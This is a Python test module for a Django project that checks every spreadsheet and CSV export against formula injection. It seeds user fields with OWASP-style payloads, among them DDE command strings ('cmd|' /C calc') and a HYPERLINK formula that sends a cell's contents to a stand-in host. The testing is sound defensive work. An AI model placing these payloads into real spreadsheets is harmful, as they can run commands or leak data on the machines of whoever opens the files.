"""Every XLSX and CSV file the project writes, with text that looks like a formula in every field users
control: no cell is a formula, and the text reads back as the user typed it (in a CSV, behind the one
apostrophe that keeps it text). See lib/cells.py and docs/security.md, "Exports".

Each file is downloaded through its real view (the Django test client) by a role allowed to, or written by
its management command. The list of exports is checked against what the code has, so a new export without
a case here fails:
- every URL of the URL configuration is asked for (also with ?format=xlsx and ?format=csv), and the names
  whose answer is a spreadsheet or a CSV must be those of EXPORTS;
- the management commands with an --out option must be those of COMMANDS;
- a module that makes an openpyxl workbook must use lib/cells, and only lib/cells makes a csv writer.

Not walked, with why: PDF files (no formulas); JSON (the API, public data.json); a case attachment
(`monev-attachment`), which is the uploader's own file served back as it came.
"""

import csv
import dataclasses
import io
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from datetime import date
from pathlib import Path

import pytest
from django.core.management import call_command
from django.test import override_settings
from django.urls import reverse
from openpyxl import load_workbook
from python_calamine import CalamineWorkbook

import lindungdesa
from lindungdesa.accounts.models import AuditEntry
from lindungdesa.budget.compute import CURRENT, Scenario
from lindungdesa.budget.models import ContributionRule, PayerRule, SiltapMinimum
from lindungdesa.budget.services import budget_store
from lindungdesa.enrolment.models import Enrolment
from lindungdesa.imports.models import ImportBatch
from lindungdesa.imports.services import roster_import_file
from lindungdesa.indicators.models import RegionFigure
from lindungdesa.lib.cells import formula_like
from lindungdesa.monev.models import CaseEvent, RegencyConfirmation
from lindungdesa.officials.models import Position
from lindungdesa.regions.converters import RegionCodeConverter
from lindungdesa.regions.models import Region
from tests.accounts.test_scope_matrix import ROUTES, url_for
from tests.factories import make_nik
from tests.imports.conftest import to_csv
from tests.shared import shared
from tests.web.conftest import KAPUAS, PENYELADI, Roster, roster_make
from tests.world import SNAPSHOT_PERIOD, World, build_world

# The seeded world is made once for the module (`module_seeded`), in one test process.
pytestmark = [pytest.mark.django_db, pytest.mark.xdist_group("every-export")]

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV = "text/csv"
SANGGAU = "61.03"

# What users type, one value per field they control (OWASP's examples and one per first character).
NAME = '=HYPERLINK("http://x/?"&C3,"Klik")'
NAME_2 = "+cmd|' /C calc'!A0"
NAME_3 = "@PAULUS"
BPJS_NAME = "-2+3+cmd|' /C calc'!A0"
DUSUN = "@SUM(1+1)*cmd|' /C calc'!A0"
SK_NUMBER = "=1+1 SK"
PHONE = "+62=1+1"
DESA = "=DESA()"  # region names come from the Kemendagri register, not from users: checked anyway
KECAMATAN = "+KECAMATAN"
KABUPATEN = "-KABUPATEN"
PROVINCE = "@PROVINSI"
USERNAME = "-pengguna+1"
FULL_NAME = "=PENGGUNA()"
LEGAL_BASIS = "=DASAR(1)"
PAYER_NOTE = "+CATATAN_PEMBAYAR"  # a regency's own "dasar hukum / catatan"
AUDIT_NOTE = "\t=CATATAN()"
CASE_NOTE = "\r=KASUS()"
FILE_NAME = "=berkas().csv"
HEADER = "=JUDUL()"
ROW_NAME = "=BARIS()"
ROW_SK = "@SK(1)"
ROW_PHONE = "-0812"
ROW_DUSUN = "+DUSUN"


@dataclass
class Seeded:
    world: World
    batch: ImportBatch  # a roster import by the Sanggau regency operator, with rejected rows
    stored_regency: int  # an adopted budget of Kabupaten Sanggau


def seed(roster: Roster) -> Seeded:
    world = build_world(roster)
    Region.objects.filter(code=PENYELADI).update(name=DESA)
    Region.objects.filter(code=KAPUAS).update(name=KECAMATAN)
    Region.objects.filter(code=SANGGAU).update(name=KABUPATEN)
    Region.objects.filter(code="61").update(name=PROVINCE)
    # Saved one by one so that the audit trail records the names as well.
    for person, name in ((roster.budi, NAME), (roster.siti, NAME_2), (roster.paulus, NAME_3)):
        person.name, person.phone = name, PHONE
        person.save()
    # Paulus left office in 2025 but is still paid up: on the "enrolled, not serving" list.
    Enrolment.objects.filter(person=roster.paulus).update(paid_through=date(2026, 12, 1))
    Position.objects.filter(person=roster.yohanes).update(unit_name=DUSUN, sk_number=SK_NUMBER)
    Position.objects.filter(person=roster.budi).update(sk_number=SK_NUMBER)
    Enrolment.objects.filter(person=roster.budi).update(bpjs_name=BPJS_NAME)  # data differ from the roster
    proposal = world.places["penyeladi"].proposal
    Enrolment.objects.filter(pk=proposal.enrolment_id).update(bpjs_name=BPJS_NAME)
    ContributionRule.objects.update(legal_basis=LEGAL_BASIS)
    SiltapMinimum.objects.update(legal_basis=LEGAL_BASIS)
    PayerRule.objects.update(legal_basis=PAYER_NOTE)
    maker = world.places["penyeladi"].batch.uploaded_by
    maker.username, maker.first_name = USERNAME, FULL_NAME
    maker.save()
    ImportBatch.objects.filter(pk=world.places["penyeladi"].batch.pk).update(file_name=FILE_NAME)
    AuditEntry.objects.create(
        user=maker,
        username=USERNAME,
        action=AuditEntry.Action.UPDATE,
        model="officials.Person",
        object_id=str(roster.budi.pk),
        object_repr=NAME,
        region_code=PENYELADI,
        note=AUDIT_NOTE,
    )
    CaseEvent.objects.filter(case=world.places["penyeladi"].case).update(note=CASE_NOTE)
    RegencyConfirmation.objects.create(
        round=world.places["penyeladi"].round, regency_id=SANGGAU, confirmed_by=maker, note=CASE_NOTE
    )
    # Figures of the province and of Sanggau in the world's snapshot, for the public open data.
    snapshot = RegionFigure.objects.filter(region_code=PENYELADI).first().snapshot
    for code, parent, level in (("61", "", 1), (SANGGAU, "61", 2), (KAPUAS, SANGGAU, 3)):
        RegionFigure.objects.create(
            snapshot=snapshot, region_code=code, parent_code=parent, level=level, villages=2, aparat_serving=2
        )
    stored = budget_store(
        region=Region.objects.get(code=SANGGAU), year=2027, scenario=Scenario(CURRENT), user=maker
    )
    return Seeded(world, _import_with_rejects(world), stored.pk)


def _import_with_rejects(world: World) -> ImportBatch:
    """A roster file whose every text cell (and one header) looks like a formula; its rows are rejected."""
    header = ["kode_desa", "nik", "nama", "jabatan", "nama_dusun", "nomor_sk", "tanggal_lahir", "no_hp"]
    header.append(HEADER)
    born = date(1980, 5, 17)
    rows = [
        {
            "kode_desa": PENYELADI,
            "nik": make_nik(KAPUAS, born, serial=70 + i),
            "nama": ROW_NAME,
            "jabatan": office,
            "nama_dusun": ROW_DUSUN,
            "nomor_sk": ROW_SK,
            "tanggal_lahir": "17/05/1980",
            "no_hp": ROW_PHONE,
            HEADER: NAME,
        }
        for i, office in enumerate(["=CAMAT()", "Kepala Dusun"])
    ]
    summary = roster_import_file(
        data=to_csv(header, rows), file_name=FILE_NAME, user=world.users["regency_operator"]
    )
    batch = ImportBatch.objects.get(pk=summary.batch)
    assert batch.rejected_rows.exists()
    return batch


# --- the exports ------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Export:
    url_name: str
    user: str | None  # a key of tests.world.ROLE_USERS, None for a visitor
    kwargs: Callable[[Seeded], dict] = lambda s: {}
    query: dict = field(default_factory=dict)
    # Text that must read back as typed, as a whole cell (XLSX) or a whole field behind an apostrophe (CSV).
    shows: tuple[str, ...] = ()
    label: str = ""
    # What must stay typed: "n" numbers, "d" dates (real number and date cells, bare numbers in a CSV).
    typed: str = "n"

    def __str__(self) -> str:
        return f"{self.url_name}{'-' + self.label if self.label else ''}"


def _region(code: str) -> Callable[[Seeded], dict]:
    return lambda s: {"code": code}


WORKLIST = {"periode": SNAPSHOT_PERIOD, "ambang": "100"}
RECONCILE_NAMES = {
    "belum-terdaftar": (),
    "menunggak": (NAME_2,),
    "tidak-menjabat": (NAME_3,),
    "data-berbeda": (NAME,),
    "usulan": (BPJS_NAME,),
}

EXPORTS = [
    Export("audit-export", "admin", shows=(USERNAME, NAME, AUDIT_NOTE), typed=""),
    Export("public-data-csv", None, shows=(PROVINCE, KABUPATEN)),
    Export("ucj-template", "regency_operator", shows=(KABUPATEN,)),
    *[
        Export(
            "worklist",
            "regency_operator",
            _region(SANGGAU),
            {**WORKLIST, "daftar": kind, "format": fmt},
            shows=(DESA, KECAMATAN, KABUPATEN),
            label=f"{kind}-{fmt}",
        )
        for kind in ("below",)
        for fmt in ("csv", "xlsx")
    ],
    Export("worklist", "regency_operator", _region(SANGGAU), {**WORKLIST, "format": "csv"}, label="nobody"),
    Export(
        "budget-download",
        "village_operator",
        lambda s: {"code": PENYELADI, "fmt": "xlsx"},
        {"skenario": "all-serving"},
        shows=(NAME, NAME_2, DESA, LEGAL_BASIS, PAYER_NOTE),
        label="desa",
    ),
    Export(
        "budget-download",
        "regency_operator",
        lambda s: {"code": SANGGAU, "fmt": "xlsx"},
        shows=(DESA, KECAMATAN),
        label="kabupaten",
    ),
    Export(
        "budget-download",
        "province_analyst",
        lambda s: {"code": "61", "fmt": "xlsx"},
        shows=(KABUPATEN,),
        label="provinsi",
    ),
    Export(
        "budget-stored-download",
        "regency_operator",
        lambda s: {"pk": s.stored_regency, "fmt": "xlsx"},
        shows=(DESA, KECAMATAN),
    ),
    *[
        Export(
            "reconcile-download",
            "bpjs_officer",
            lambda s, name=name: {"code": PENYELADI, "name": name},
            {"periode": SNAPSHOT_PERIOD},
            shows=(DESA, *shows) if name != "usulan" else shows,
            label=name,
            typed="d" if name == "usulan" else "",  # birth dates; the lists are text
        )
        for name, shows in RECONCILE_NAMES.items()
    ],
    Export("import-template", "village_operator", typed=""),
    Export("import-template-bpjs", "bpjs_officer", typed="nd"),  # its example row: a wage and dates
    Export(
        "import-rejected",
        "regency_operator",
        lambda s: {"pk": s.batch.pk},
        shows=(HEADER, ROW_NAME, ROW_DUSUN, ROW_SK, ROW_PHONE, NAME, "=CAMAT()"),
        label="full",
        typed="d",
    ),
    Export(
        "monev-round-report",
        "province_analyst",
        lambda s: {"pk": s.world.places["penyeladi"].round.pk},
        shows=(KABUPATEN,),
    ),
    Export(
        "report-kemendagri",
        "province_analyst",
        query={"format": "xlsx", "periode": SNAPSHOT_PERIOD},
        shows=(KABUPATEN, KECAMATAN, DESA, FULL_NAME),
    ),
]

# Management commands with an --out option: the XLSX ones are run below; the others write only PDF.
# backup writes a tar.gz of the database and uploads as they are (for the administrator, not a user-facing
# table), so it has no cells to check.
COMMANDS = {"budget": "xlsx", "template": "xlsx", "report": "xlsx", "monev": "pdf", "backup": "tar.gz"}


# --- reading the files back -------------------------------------------------------------------------------

_NUMBER = re.compile(r"^-?\d+(\.\d+)?$")


def xlsx_problems(content: bytes, shows: tuple[str, ...], typed: str = "") -> list[str]:
    problems = []
    # Read-only: the cells as the file holds them, streamed (the same parser, without a worksheet of cell
    # objects: reading the large files back was most of this module's time); a cell's quote prefix is in
    # its style.
    book = load_workbook(io.BytesIO(content), read_only=True)
    texts, kinds = set(), set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                kinds.add(cell.data_type)
                if cell.value is None:  # an empty cell (the file may not hold it)
                    continue
                if cell.data_type == "f":
                    problems.append(f"formula in {sheet.title}!{cell.coordinate}: {cell.value!r}")
                elif formula_like(cell.value) and not cell.style_array.quotePrefix:
                    problems.append(
                        f"formula-like text without the quote prefix in {sheet.title}!{cell.coordinate}: "
                        f"{cell.value!r}"
                    )
                if isinstance(cell.value, str):
                    texts.add(cell.value)
    book.close()
    problems += [f"no cell of type {kind!r}" for kind in typed if kind not in kinds]
    calamine = CalamineWorkbook.from_filelike(io.BytesIO(content))
    calamine_texts = {
        value
        for name in calamine.sheet_names
        for row in calamine.get_sheet_by_name(name).to_python()
        for value in row
        if isinstance(value, str)
    }
    # XML reads a carriage return as a line feed; the rest of the text comes back as typed.
    for text in (t.replace("\r", "\n") for t in shows):
        if text not in texts:
            problems.append(f"openpyxl does not read back {text!r}")
        if text not in calamine_texts:
            problems.append(f"calamine does not read back {text!r}")
    return problems


def csv_problems(content: bytes, shows: tuple[str, ...], typed: str = "") -> list[str]:
    problems = []
    text = content.decode("utf-8-sig")
    fields = [f for row in csv.reader(io.StringIO(text, newline="")) for f in row]
    for value in fields:
        if formula_like(value) and not _NUMBER.match(value):
            problems.append(f"formula-like field: {value!r}")
    for shown in shows:
        if "'" + shown not in fields:
            problems.append(f"{shown!r} is not read back behind an apostrophe")
    # Text is quoted (a semicolon inside it cannot split the cell) and numbers are bare: read so, every
    # bare field is a number.
    try:
        parsed = [
            f for row in csv.reader(io.StringIO(text, newline=""), quoting=csv.QUOTE_NONNUMERIC) for f in row
        ]
    except ValueError as exc:
        return [*problems, f"a text field is not quoted: {exc}"]
    if "n" in typed and not any(isinstance(f, float) for f in parsed):
        problems.append("no bare number")
    return problems


def file_problems(content_type: str, content: bytes, export: Export) -> list[str]:
    if content_type.startswith(CSV):
        return csv_problems(content, export.shows, export.typed)
    assert content_type == XLSX, content_type
    return xlsx_problems(content, export.shows, export.typed)


# --- the tests --------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def module_seeded(django_db_setup, django_db_blocker, tmp_path_factory) -> Iterator[Seeded]:
    """The seeded world made once for the module's three tests that download (`tests/shared.py`: each
    test's writes, such as the audit entries of its downloads, are undone), with every lazy object of the
    world made, as `shared_world` (tests/conftest.py) makes them."""
    media = tmp_path_factory.mktemp("every-export-media")

    def build() -> Seeded:
        with override_settings(MEDIA_ROOT=media):
            seeded = seed(roster_make())
            for place in seeded.world.places.values():
                for attr in list(place.lazy):
                    place.object(attr)
        seeded.world.media = media
        return seeded

    yield from shared(django_db_blocker, build)


@pytest.fixture
def seeded(module_seeded, db, settings) -> Seeded:
    settings.MEDIA_ROOT = module_seeded.world.media
    return module_seeded


def test_no_export_writes_text_from_users_as_a_formula(client, seeded):
    problems = []
    for export in EXPORTS:
        client.logout()
        if export.user is not None:
            client.force_login(seeded.world.users[export.user])
        url = reverse(export.url_name, kwargs=export.kwargs(seeded))
        response = client.get(url, export.query)
        content_type = response.get("Content-Type", "")
        if response.status_code != 200 or not content_type.startswith((XLSX, CSV)):
            problems.append(f"{export}: {response.status_code} {content_type} for {url}")
            continue
        problems += [f"{export}: {p}" for p in file_problems(content_type, response.content, export)]
    assert problems == []


def test_the_commands_write_no_formula_either(seeded, tmp_path):
    runs = {  # each: its arguments, the text it must read back; all write numbers
        "budget": (
            ["--year", "2027", "--region", PENYELADI, "--scenario", "all-serving", "--personal"],
            (NAME, NAME_2, DESA, LEGAL_BASIS),
        ),
        "template": (["roster"], ()),
        "template-bpjs": (["bpjs"], ()),
        "report": (["kemendagri", "--period", SNAPSHOT_PERIOD, "--province", "61"], (KABUPATEN, DESA)),
    }
    assert {name.split("-")[0] for name in runs} == {
        name for name, kind in COMMANDS.items() if kind == "xlsx"
    }
    problems = []
    for name, (args, shows) in runs.items():
        out = tmp_path / f"{name}.xlsx"
        command = name.split("-")[0]
        call_command(command, *args, "--out", str(out), stdout=io.StringIO(), stderr=io.StringIO())
        typed = {"template": "", "template-bpjs": "nd"}.get(name, "n")
        problems += [f"{name}: {p}" for p in xlsx_problems(out.read_bytes(), shows, typed)]
    assert problems == []


def test_every_download_of_the_url_configuration_is_walked(client, seeded):
    """Every URL, asked for as a province administrator with and without ?format=, for a desa and for a
    kabupaten: those answering with a spreadsheet or a CSV are exactly those EXPORTS walks."""
    admin = seeded.world.users["admin"]
    places = seeded.world.places
    kabupaten = dataclasses.replace(places["penyeladi"], code=SANGGAU)
    world = dataclasses.replace(seeded.world, places={**places, "kabupaten": kabupaten})
    found = set()
    for route in ROUTES:
        regions = ["penyeladi"]
        if any(isinstance(c, RegionCodeConverter) for c in route.params.values()):
            regions.append("kabupaten")  # some pages send a desa elsewhere (the worklist)
        for region in regions:
            url = url_for(route, world, region_place=region, object_place="penyeladi", user=admin)
            for query in ({}, {"format": "xlsx"}, {"format": "csv"}):
                # The world's session of the administrator, or a new one when a page (a logout, a password
                # change) signed them out.
                world.sign_in(client, admin)
                response = client.get(url, query)
                if response.get("Content-Type", "").startswith((XLSX, CSV)):
                    found.add(route.name)
    assert found == {export.url_name for export in EXPORTS}


def test_every_command_that_writes_a_file_is_known():
    root = Path(lindungdesa.__file__).parent
    with_out = {
        path.stem for path in root.glob("*/management/commands/*.py") if '"--out"' in path.read_text()
    }
    assert with_out == set(COMMANDS)


def test_every_writer_of_spreadsheets_goes_through_lib_cells():
    root = Path(lindungdesa.__file__).parent
    workbooks, csv_writers = set(), set()
    for path in root.rglob("*.py"):
        text = path.read_text()
        name = str(path.relative_to(root))
        if re.search(r"\bWorkbook\(", text) and "lib.cells" not in text:
            workbooks.add(name)
        if re.search(r"csv\.(writer|DictWriter)\(", text) and name != "lib/cells.py":
            csv_writers.add(name)
    assert workbooks == set(), "make the cells with lindungdesa.lib.cells (xlsx_value, xlsx_row)"
    assert csv_writers == set(), "write CSV with lindungdesa.lib.cells.csv_writer"
